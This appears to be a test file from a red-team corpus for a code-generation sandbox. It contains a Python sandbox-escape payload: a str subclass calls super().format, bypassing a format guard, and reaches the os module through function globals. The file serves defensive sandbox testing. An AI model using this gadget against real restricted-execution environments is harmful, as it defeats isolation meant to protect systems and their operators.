@@ -1,0 +1,27 @@
+# Red-team corpus for the sandboxed code-generation runtime.
+# Contract: the module defines run(inputs: dict) -> dict. For attack files, a returned
+# {'escaped': True, ...} means the attack WORKED (sandbox failure).
+# @id: gadget_super_format
+# @category: format_string
+# @expect: error   (reject = compile-time refusal or policy error; limit = killed/stopped by a resource limit; error = any exception, fast; ok = must run)
+# @layer: both
+# @raw_safe: yes   (yes = payload is benign enough to run unsandboxed to validate the snippet)
+# @source: CVE-2023-41039 family: str.format reached through super()
+# Attempt: Subclass str and call super().format(...) from a method: the attribute hook sees a
+#   `super` object, not a str, so a guard that swaps in a safe format only for str instances hands
+#   out the real str.format bound to the template. The template walks
+#   statistics.NormalDist.__init__.__globals__ to sys.modules['os'] and renders the module's repr.
+# Safe sandbox must: route every field step through the attribute guard (or not offer the path at
+#   all); never return escaped=True.
+
+import statistics
+
+
+class Template(str):
+    def render(self, *args):
+        return super().format(*args)
+
+
+def run(inputs):
+    out = Template("{0.__init__.__globals__[sys].modules[os]}").render(statistics.NormalDist())
+    return {"escaped": True, "evidence": out}
